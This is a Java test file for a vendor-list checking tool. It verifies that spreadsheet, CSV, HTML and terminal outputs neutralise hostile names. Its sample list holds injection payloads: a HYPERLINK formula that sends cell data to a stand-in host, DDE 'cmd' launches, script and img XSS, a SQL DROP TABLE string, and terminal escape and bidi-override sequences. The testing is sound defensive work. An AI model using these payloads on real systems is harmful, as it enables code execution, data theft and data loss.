package chokepoint.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Names that mean to be formulas, scripts or commands of a terminal, on their way into every output. */
class HostileTextTest {

    private static final List<String> NAMES = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Alder\")",
            "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "<script>alert('evil')</script>",
            "\"><img src=x onerror=alert('evil')>",
            "'; DROP TABLE evil; --",
            "Alder\u001B[2J\u001B]0;evil\u0007",
            "Alder \u202Edtl .oC live\u202C",
            "Alder _x003D_evil",
            "${evil} {{evil}} #{evil}",
            "]]></t></is><f>evil()</f>",
            "Alder &#x3D; evil \uD83D",
            "=evil " + "x".repeat(32_700));

    private static final String[] HEADER = {"Vendor", "Vendor country", "Description", "Amount EUR", "Country of origin"
    };

    @TempDir
    private Path folder;

    private Path out;

    @BeforeEach
    void where() {
        out = folder.resolve("out");
    }

    private Cli check(Path... lists) {
        return Cli.run(Stream.concat(
                        Stream.of("check", "--home", "EE", "--out", out.toString()),
                        Stream.of(lists).map(Path::toString))
                .toArray(String[]::new));
    }

    private static List<String[]> rows() {
        List<String[]> rows = new ArrayList<>();
        rows.add(HEADER);
        for (String name : NAMES) {
            boolean most = name.equals(NAMES.get(0)) || name.length() > 1_000;
            rows.add(new String[] {name, "Sweden", name, most ? "7000" : "70", name});
        }
        return rows;
    }

    private Path workbook(String name, Workbook made) throws IOException {
        Path file = folder.resolve(name);
        try (Workbook workbook = made;
                OutputStream bytes = Files.newOutputStream(file)) {
            Sheet sheet = workbook.createSheet("=evil() & co");
            for (String[] texts : rows()) {
                Row row = sheet.createRow(sheet.getPhysicalNumberOfRows());
                for (int column = 0; column < texts.length; column++) {
                    row.createCell(column).setCellValue(texts[column]);
                }
            }
            workbook.write(bytes);
        }
        return file;
    }

    private Path csv() throws IOException {
        StringBuilder text = new StringBuilder();
        for (String[] row : rows()) {
            Stream.of(row)
                    .forEach(field ->
                            text.append('"').append(field.replace("\"", "\"\"")).append("\";"));
            text.append('\n');
        }
        return Files.writeString(folder.resolve("list.csv"), text.toString().replace("\uD83D", ""));
    }

    private static void eachCell(Path file, Consumer<Cell> consumer) throws IOException {
        try (Workbook workbook = WorkbookFactory.create(file.toFile(), null, true)) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    row.forEach(consumer);
                }
            }
        }
    }

    private static void assertHarmless(Path file) throws IOException {
        eachCell(file, cell -> {
            assertThat(cell.getCellType()).as(cell.getAddress().toString()).isNotEqualTo(CellType.FORMULA);
            if (cell.getHyperlink() != null) {
                assertThat(cell.getHyperlink().getType()).isIn(HyperlinkType.DOCUMENT, HyperlinkType.FILE);
                assertThat(cell.getHyperlink().getAddress()).doesNotContain("evil.example", "://", "..");
            }
            if (cell.getCellType() == CellType.STRING) {
                assertThat(cell.getStringCellValue()).hasSizeLessThanOrEqualTo(32_767);
            }
            if (cell.getCellComment() != null) {
                assertThat(cell.getCellComment().getString().getString())
                        .hasSizeLessThanOrEqualTo(32_767)
                        .doesNotContain("\u001B", "\u202E");
            }
        });
    }

    private static void assertAddedSheetsShowWhatStands(Path file) throws IOException {
        try (Workbook workbook = WorkbookFactory.create(file.toFile(), null, true)) {
            for (Row row : workbook.getSheet("Findings")) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING) {
                        assertThat(cell.getStringCellValue()).doesNotContain("\u001B", "\u202E", "\u0007");
                        boolean alike = "=+-@".indexOf((cell.getStringCellValue() + " ").charAt(0)) >= 0;
                        assertThat(!alike || cell.getCellStyle().getQuotePrefixed())
                                .as("a text that would be a formula once somebody edits it: " + cell.getAddress())
                                .isTrue();
                    }
                }
            }
        }
    }

    @Test
    void inACheckedXlsxNothingBecomesAFormulaOrALinkOutside() throws IOException {
        assertThat(check(workbook("list.xlsx", new XSSFWorkbook())).exitCode()).isLessThan(2);
        assertHarmless(out.resolve("list.checked.xlsx"));
        assertAddedSheetsShowWhatStands(out.resolve("list.checked.xlsx"));
    }

    @Test
    void inACheckedXlsNothingBecomesAFormulaOrALinkOutside() throws IOException {
        assertThat(check(workbook("list.xls", new org.apache.poi.hssf.usermodel.HSSFWorkbook()))
                        .exitCode())
                .isLessThan(2);
        assertHarmless(out.resolve("list.checked.xls"));
    }

    @Test
    void recordsOfACsvStayTexts() throws IOException {
        assertThat(check(csv()).exitCode()).isLessThan(2);
        assertHarmless(out.resolve("list.csv.checked.xlsx"));
    }

    @Test
    void ofSeveralListsTogetherNothingBecomesAFormula() throws IOException {
        check(workbook("list.xlsx", new XSSFWorkbook()), csv());
        assertHarmless(out.resolve("portfolio.xlsx"));
        new ObjectMapper().readTree(out.resolve("portfolio.json").toFile());
    }

    @Test
    void theFindingsFileHoldsTheNameAsItStands() throws IOException {
        check(workbook("list.xlsx", new XSSFWorkbook()));
        JsonNode findings = new ObjectMapper()
                .readTree(out.resolve("list.xlsx.findings.json").toFile());
        assertThat(findings.path("findings")).isNotEmpty();
    }

    @Test
    void theTerminalIsNotSteered() throws IOException {
        Cli run = check(workbook("list.xlsx", new XSSFWorkbook()));
        Cli inspected = Cli.run("inspect", folder.resolve("list.xlsx").toString());
        String all = run.out() + run.err() + inspected.out() + inspected.err();
        assertThat(all).contains("Alder").doesNotContain("\u001B", "\u0007", "\u202E");
    }

    @Test
    void aFileNameDoesNotSteerTheTerminalEither() throws IOException {
        Path list = Files.write(folder.resolve("a\u001B[2Jb\rall is well.csv"), new byte[0]);
        assertThat(check(list).err()).contains("the file is empty").doesNotContain("\u001B", "b\r");
    }

    @Test
    void pagesHoldNoScriptOfAName() throws IOException {
        check(workbook("list.xlsx", new XSSFWorkbook()));
        try (Stream<Path> files = Files.list(out)) {
            for (Path page :
                    files.filter(file -> file.toString().endsWith(".html")).toList()) {
                assertThat(Files.readString(page)).doesNotContain("<script>alert", "<img src=x", "\u202E", "\u001B");
            }
        }
    }
}
